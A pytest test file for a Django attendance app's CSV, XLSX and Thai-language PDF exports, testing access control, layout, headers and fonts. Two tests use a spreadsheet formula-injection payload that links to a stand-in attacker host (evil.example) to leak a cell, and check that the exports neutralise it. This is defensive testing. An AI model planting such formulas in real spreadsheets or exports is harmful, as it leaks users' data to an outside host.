"""CSV at /cohorts/<slug>/attendance.csv, XLSX, and the Thai sign-in sheet PDF."""

import csv
import io
import shutil
import subprocess

import pytest

from django.urls import reverse
from django.utils import timezone

from attendance.models import AttendanceRecord, Method, Status
from tests.factories import SessionFactory, bangkok_morning

pytestmark = pytest.mark.django_db


@pytest.fixture
def recorded(cohort, enrolment, facilitator):
    """A one-day session this morning with the learner present (a session running now
    would cross midnight when the suite runs near it)."""
    session = SessionFactory(cohort=cohort, starts_at=bangkok_morning(0))
    session.facilitators.add(facilitator)
    AttendanceRecord.objects.create(
        enrolment=enrolment,
        session=session,
        day=timezone.localdate(session.starts_at),
        status=Status.PRESENT,
        method=Method.QR,
    )
    return session


def test_the_csv_address_is_fixed():
    assert reverse("attendance_csv", args=["cohort-1"]) == "/cohorts/cohort-1/attendance.csv"


def test_anonymous_gets_403_for_the_csv(client, cohort):
    assert client.get(f"/cohorts/{cohort.slug}/attendance.csv").status_code == 403


def test_anonymous_gets_403_even_for_a_cohort_that_does_not_exist(client):
    assert client.get("/cohorts/nope/attendance.csv").status_code == 403


@pytest.mark.parametrize("who", ["learner", "other_learner", "facilitator"])
def test_everyone_but_coordinators_gets_403_for_the_csv(client, cohort, who, request):
    client.force_login(request.getfixturevalue(who))
    assert client.get(f"/cohorts/{cohort.slug}/attendance.csv").status_code == 403


def test_the_csv_has_one_row_per_learner_one_column_per_session_and_totals(
    client, coordinator, recorded, learner, other_learner
):
    client.force_login(coordinator)
    response = client.get(f"/cohorts/{recorded.cohort.slug}/attendance.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header = rows[0]
    assert header[5] == str(recorded.number) and "Standing" in header
    by_email = {row[3]: row for row in rows[1:-1]}
    assert by_email[learner.email][5] == "P"
    assert by_email[other_learner.email][5] == "-"
    assert rows[-1][1] == "Present or late" and rows[-1][5] == "1"


def test_the_xlsx_opens_with_the_same_matrix(client, coordinator, recorded, learner):
    from openpyxl import load_workbook

    client.force_login(coordinator)
    response = client.get(reverse("attendance_admin:matrix_xlsx", args=[recorded.cohort.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    emails = [row[3] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert learner.email in emails


def test_the_xlsx_is_for_coordinators_only(client, facilitator, cohort):
    client.force_login(facilitator)
    assert client.get(reverse("attendance_admin:matrix_xlsx", args=[cohort.pk])).status_code in (
        302,
        403,
    )


def test_the_sign_in_sheet_is_a_thai_pdf(client, facilitator, recorded, learner, tmp_path):
    client.force_login(facilitator)
    response = client.get(reverse("attendance_admin:sign_in_sheet", args=[recorded.pk]))
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    if shutil.which("pdftotext"):
        text = subprocess.run(
            ["pdftotext", "-", "-"],  # noqa: S603, S607
            input=response.content,
            capture_output=True,
            check=True,
        ).stdout.decode()
        assert "ใบลงชื่อเข้าร่วม" in text
        assert learner.first_name in text
    if shutil.which("pdffonts"):
        pdf = tmp_path / "sheet.pdf"
        pdf.write_bytes(response.content)
        fonts = subprocess.run(
            ["pdffonts", str(pdf)],  # noqa: S603, S607
            capture_output=True,
            check=True,
        ).stdout.decode()
        assert "Laksaman" in fonts


FORMULA = '=HYPERLINK("http://evil.example/?leak="&D3,"Open")'


def test_a_formula_typed_as_a_name_is_plain_text_in_the_csv(client, coordinator, recorded, learner):
    learner.first_name = FORMULA
    learner.title_prefix = ""
    learner.save()
    client.force_login(coordinator)
    response = client.get(f"/cohorts/{recorded.cohort.slug}/attendance.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row[3]: row[1] for row in rows[1:-1]}
    assert names[learner.email].startswith("'=HYPERLINK")


def test_a_formula_typed_as_a_name_is_a_string_cell_in_the_xlsx(
    client, coordinator, recorded, learner
):
    from openpyxl import load_workbook

    learner.first_name = FORMULA
    learner.title_prefix = ""
    learner.save()
    client.force_login(coordinator)
    response = client.get(reverse("attendance_admin:matrix_xlsx", args=[recorded.cohort.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2) if row[3].value == learner.email]
    assert cells[0].data_type == "s" and cells[0].value.startswith("=HYPERLINK")


def test_the_xlsx_is_ready_to_use_thai_headers_numbers_dates_totals_frozen_header(
    client, coordinator, cohort, learner, other_learner
):
    import datetime as dt

    from openpyxl import load_workbook

    from cohorts.models import Enrolment, Session

    first = SessionFactory(
        cohort=cohort,
        number=1,
        starts_at=bangkok_morning(-14),
        ends_at=bangkok_morning(-14) + dt.timedelta(hours=3),
    )
    SessionFactory(
        cohort=cohort,
        number=2,
        starts_at=bangkok_morning(-7),
        ends_at=bangkok_morning(-7) + dt.timedelta(hours=3),
        status=Session.Status.CANCELLED,
    )
    AttendanceRecord.objects.create(
        enrolment=Enrolment.objects.get(user=learner, cohort=cohort),
        session=first,
        day=bangkok_morning(-14).date(),
        status=Status.PRESENT,
        method=Method.QR,
    )
    client.force_login(coordinator)
    response = client.get(reverse("attendance_admin:matrix_xlsx", args=[cohort.pk]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    assert header[:5] == ["ลำดับ", "ชื่อ-สกุล (ไทย)", "ชื่อ-สกุล (อังกฤษ)", "อีเมล", "ทีม"]
    assert header[5:7] == ["ครั้งที่ 1", "ครั้งที่ 2 (ยกเลิก)"]
    assert "เข้าร่วม (ครั้ง)" in header and "สถานะตามเกณฑ์" in header
    assert not any(h and any("a" <= ch.lower() <= "z" for ch in h) for h in header)
    assert sheet.cell(row=2, column=6).is_date
    assert sheet.cell(row=2, column=6).value.date() == bangkok_morning(-14).date()
    assert sheet.freeze_panes == "F3"
    rows = {row[3]: row for row in sheet.iter_rows(min_row=3, values_only=True) if row[3]}
    mine = rows[learner.email]
    assert mine[5] == "มา" and mine[6] == "ยกเลิก"
    attended, total, required, percent = mine[7:11]
    assert (attended, total, required, percent) == (1, 1, 1, 100)
    assert all(isinstance(value, int | float) for value in (attended, total, required, percent))
    assert mine[12] == "ผ่านเกณฑ์"
    assert isinstance(rows[other_learner.email][7], int | float)
    last = [cell.value for cell in sheet[sheet.max_row]]
    assert last[0] == "มาหรือมาสาย" and last[5] == 1 and last[6] is None


def test_every_font_a_pdf_names_is_installed_so_nothing_is_substituted():
    """fontconfig stands in for a missing "TH Sarabun New" with Laksaman shrunk to 0.66,
    and the letters overlap: a PDF template names only fonts that are really there."""
    import re
    from pathlib import Path

    if not shutil.which("fc-list"):
        pytest.skip("fontconfig's fc-list is not installed")
    installed = set(
        subprocess.run(
            ["fc-list", ":", "family"],  # noqa: S607
            capture_output=True,
            check=True,
            text=True,
        )
        .stdout.replace(",", "\n")
        .split("\n")
    )
    generic = {"serif", "sans-serif", "monospace", "cursive", "fantasy", "system-ui"}
    root = Path(__file__).resolve().parents[2] / "templates"
    templates = list(root.glob("**/pdf/*.html"))
    assert templates
    for template in templates:
        for families in re.findall(r"font-family:\s*([^;}]+)", template.read_text()):
            for family in (name.strip().strip("\"'") for name in families.split(",")):
                assert family in generic or family in installed, (template.name, family)
